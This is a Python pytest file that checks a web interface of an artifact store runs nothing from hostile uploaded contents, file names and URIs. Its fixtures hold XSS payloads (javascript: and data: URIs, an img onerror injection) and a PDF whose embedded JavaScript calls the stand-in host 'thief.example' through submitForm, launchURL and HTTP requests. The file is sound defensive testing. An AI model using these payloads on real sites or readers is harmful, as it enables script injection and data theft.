"""Hostile contents and names in Chromium: nothing of them runs, and nothing leaves the machine."""

from __future__ import annotations

from functools import partial
from types import SimpleNamespace
from urllib.parse import urlencode

import corpus
import pytest
from browser import PHONE, Kind, overflows
from playwright.sync_api import Error
from samples import document
from served import served

from cas.digest import Digest
from index import ArtifactStore, Reference
from index.web import Grant, Tokens, application
from index.web.previews import Previewer

TOKEN = "the-owner-may-see-all"  # noqa: S105

NAMES = corpus.names()

LABELS = [name for name in NAMES if name.isascii() and name.isprintable()]
"""Names that may also be those of agents and phases."""

FILES = {
    f"contents/{NAMES[number % len(NAMES)]}/{name}": content
    for number, (name, content) in enumerate(corpus.files().items())
}
"""Contents by path: each in a directory with a hostile name."""

URIS = (
    f"javascript://x/%0adocument.title='{corpus.MARK}'",
    f"data://text/html,<script>document.title='{corpus.MARK}'</script>",
    f"file://\"><img src=x onerror=document.title='{corpus.MARK}'>",
    "http://thief.example/{{ 7 * 7 }}",
)
"""Where bytes outside of the store may be said to be."""

THIEF = "http://thief.example/"

SCRIPT = "".join(
    f"try {{ {call} }} catch (error) {{}}"
    for call in (
        f"this.submitForm('{THIEF}')",
        f"app.launchURL('{THIEF}', true)",
        f"this.getURL('{THIEF}')",
        f"Net.HTTP.request({{cVerb: 'GET', cURL: '{THIEF}'}})",
        "app.alert('it ran')",  # comes last, so that a test can wait for it
    )
)

parts = pytest.mark.parametrize("paths", [[*FILES][part::4] for part in range(4)])
"""The corpus in parts, so that several workers share it."""


@pytest.fixture(scope="module")
def site(stores, tmp_path_factory):
    """A run that holds the corpus, behind tokens. Previews that take long end soon."""
    folder = tmp_path_factory.mktemp("site")
    tokens = Tokens({TOKEN: Grant()})
    with (
        pytest.MonkeyPatch.context() as patch,
        ArtifactStore.open(**stores.make("sqlite-local", folder)) as store,
    ):
        patch.setattr("index.web.asgi.Previewer", partial(Previewer, timeout=1.0))
        run = store.session("session-1").run("run-1")
        for number, phase in enumerate(LABELS[:3]):
            named = [(f"names/{name}", f"<script>{number}</script>\n".encode()) for name in NAMES]
            run.put_many(named, agent=LABELS[number + 3], phase=phase)
        run.put_many(FILES.items(), agent=LABELS[0])
        pdf = document("", f"/OpenAction << /S /JavaScript /JS <{SCRIPT.encode().hex()}> >>")
        run.put("script.pdf", pdf)
        by = {"agent": LABELS[0], "phase": LABELS[1], "node_id": LABELS[2], "step_id": LABELS[3]}
        sources = [run.file(f"names/{name}") for name in NAMES]
        outside = [Reference(uri, digest=Digest.of(uri.encode())) for uri in URIS]
        run.use(*outside, *sources, **by, event_id=LABELS[4])
        run.put("made.txt", b"made of all", **by, event_id=LABELS[4])
        run.put(f"names/{NAMES[0]}", b"another one")
        with served(application(store, authorize=tokens)) as url:
            place = "/sessions/session-1/runs/run-1"
            yield SimpleNamespace(run=run, url=url, place=f"{url}{place}", tokens=tokens)


@pytest.fixture
def window(open_window, site):
    """A window of somebody who is logged in, so that a script would have something to steal."""
    with open_window(size=PHONE, still=True) as opened:
        opened.visit(f"{site.url}/login?code={site.tokens.make_code(TOKEN)}")
        yield opened


def content_url(site, path):
    return f"{site.url}/api/v1/sessions/session-1/files/{site.run.file(path).id}/content"


def assert_nothing_ran(window, url):
    """What a page of ours may look like after contents were shown on it."""
    page = window.page
    assert not window.take(), url
    assert page.url == url
    assert corpus.MARK not in page.title()
    assert page.title().endswith(" · runcas")
    assert page.evaluate("[document.cookie, document.scripts.length]") == ["", 2]
    assert page.evaluate("document.body.lastElementChild.id") == "news"
    assert not overflows(page)


@parts
def test_the_page_of_a_hostile_content_runs_nothing_of_it(window, site, paths):
    for path in paths:
        url = f"{site.place}/file?{urlencode({'path': path}, errors='surrogateescape')}"
        assert window.visit(url).ok
        assert_nothing_ran(window, url)
        for source in window.page.locator("main img[src]").evaluate_all(
            "all => all.map(e => e.src)"
        ):
            assert source == content_url(site, path) or source.startswith("data:image/")


@parts
def test_a_hostile_content_that_is_opened_is_data_in_a_sandbox_or_is_saved(window, site, paths):
    for path in paths:
        url = content_url(site, path)
        headers = window.page.request.head(url).headers
        if headers["content-disposition"].startswith("attachment"):
            with window.page.expect_download(), pytest.raises(Error, match="Download is starting"):
                window.visit(url)
            assert [notice.kind for notice in window.take()] == [Kind.DOWNLOAD], path
        elif not path.endswith(".pdf"):
            window.visit(url)
            assert not window.take(), path
            seen = window.page.evaluate("[origin, document.title, document.scripts.length]")
            assert seen[0] == "null", path
            assert corpus.MARK not in seen[1]
            assert seen[2] == 0
            with pytest.raises(Error, match="SecurityError"):
                window.page.evaluate("document.cookie")


def test_a_script_of_a_pdf_document_can_open_a_dialog_and_nothing_else(window, site):
    url = content_url(site, "script.pdf")
    with window.page.expect_event("dialog"):
        window.visit(url)
    assert window.page.url == url
    # Chromium asks for /favicon.ico, too, which is not there.
    assert {notice.kind for notice in window.take()} - {Kind.ERROR} == {Kind.DIALOG}


def test_pages_with_hostile_names_and_labels_run_nothing_of_them(window, site):
    page = window.page
    window.visit(f"{site.place}?path=names")
    assert page.locator("#results tbody tr").count() == len(NAMES)
    links = page.locator("#results th a").evaluate_all("all => all.map(each => each.href)")
    for url in (
        f"{site.place}?path=contents",
        f"{site.place}?path=names",
        f"{site.place}/timeline",
        f"{site.place}/snapshots/2",
        f"{site.place}/compare?from=1&to=2&by=agent",
        f"{site.place}/compare?from=1&to=2&by=phase",
        f"{site.url}/sessions/session-1/find?pattern=names/*",
        f"{site.url}/sessions/session-1/blobs/{site.run.file(f'names/{NAMES[0]}').digest}",
        *links,
    ):
        assert window.visit(url).ok
        assert_nothing_ran(window, url)


def test_the_lineage_of_hostile_names_and_uris_runs_nothing_and_links_nothing_of_them(window, site):
    page = window.page
    made = site.run.file("made.txt")
    for url in (
        f"{site.place}/inputs",
        f"{site.place}/file?path=made.txt",
        f"{site.url}/sessions/session-1/files/{made.id}/lineage",
        f"{site.url}/sessions/session-1/blobs/{site.run.file(f'names/{NAMES[1]}').digest}",
        site.place,
    ):
        assert window.visit(url).ok
        assert_nothing_ran(window, url)
        links = page.locator("main a").evaluate_all("all => all.map(each => each.href)")
        assert all(link.startswith(f"{site.url}/") for link in links), url
    window.visit(f"{site.place}/inputs")
    for uri in URIS:
        assert page.get_by_text(uri).count() == 1


def test_differences_of_hostile_files_that_a_comparison_shows_run_nothing(window, site):
    url = f"{site.place}/compare?from=3&to=4"
    window.visit(url)
    expanded = window.page.locator("details", has_text=".svg")
    assert expanded.count() == 3
    for each in expanded.all():
        each.locator("summary").click()
        each.locator(".expansion > div p").first.wait_for()
    assert_nothing_ran(window, url)
    assert window.page.locator("main svg, main iframe, main object, main style").count() == 0
